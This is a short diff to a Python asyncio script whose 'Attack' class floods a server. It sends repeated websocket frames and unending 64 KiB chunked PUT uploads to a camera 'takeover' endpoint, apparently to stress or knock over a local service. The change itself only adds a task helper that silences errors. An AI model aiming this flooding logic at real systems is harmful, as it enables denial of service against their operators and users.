@@ -31,6 +31,13 @@ def frame(opcode, payload):
     return bytes([0x80 | opcode, 0x80 | len(payload)]) + MASK + payload
 
 
+def beside(work):
+    """A task whose failure is no news: the server may end a connection at any time."""
+    task = asyncio.ensure_future(work)
+    task.add_done_callback(lambda done: done.cancelled() or done.exception())
+    return task
+
+
 class Attack:
     def __init__(self, given):
         self.given = given
@@ -52,7 +59,8 @@ class Attack:
         while not self.is_over():
             began = time.monotonic()
             try:
-                reader, writer = await asyncio.open_connection(self.given.host, self.given.port, ssl=self.tls, limit=4096)
+                reader, writer = await asyncio.open_connection(self.given.host, self.given.port, ssl=self.tls,
+                                                               limit=4096)
             except OSError:
                 self.refused += 1
                 await asyncio.sleep(1)
@@ -106,7 +114,7 @@ class Attack:
     async def flood(self, reader, writer, sent):
         writer.write(handshake("?subscribe=none"))
         await self.status(reader)
-        pump = asyncio.ensure_future(self.drink(reader))
+        pump = beside(self.drink(reader))
         try:
             while not pump.done():
                 writer.write(sent)
@@ -129,7 +137,7 @@ class Attack:
     async def uploads(self, reader, writer):
         writer.write(b"PUT /cameras/vision/frame?takeover=true HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
         chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
-        answer = asyncio.ensure_future(self.status(reader))
+        answer = beside(self.status(reader))
         while not answer.done():
             writer.write(chunk)
             await writer.drain()
